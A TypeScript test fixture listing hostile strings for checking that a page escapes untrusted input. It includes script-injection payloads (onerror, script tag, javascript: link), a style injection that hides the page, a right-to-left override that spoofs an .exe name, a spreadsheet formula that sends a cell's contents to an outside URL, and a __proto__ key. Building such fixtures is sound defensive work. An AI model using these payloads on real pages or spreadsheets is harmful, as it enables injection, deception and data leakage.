/** Texts that a careless page would run, hide or be bent by. */
export const hostile: Record<string, string> = {
  markup: '<img src=x onerror="globalThis.ran = true"><script>globalThis.ran = true</script>',
  closing: '</td></tr></table></main><style>*{display:none}</style>',
  link: 'javascript:globalThis.ran=true',
  controls: 'a\u0000b\u0007c\u001b[31md\ne\r\nf\tg\u007f\u0085',
  override: '\u202egnp.exe\u2066\u2069',
  rightToLeft: 'שלום עולם (דוח יומי) 123',
  emoji: '😀'.repeat(1_000),
  half: 'half \ud83d emoji',
  lines: 'one\u2028two\u2029three',
  marks: `Z${'\u0351'.repeat(200)}algo`,
  long: 'x'.repeat(20_000),
  formula: '=HYPERLINK("https://example.com/?"&A1,"click")',
  prototype: '__proto__',
}
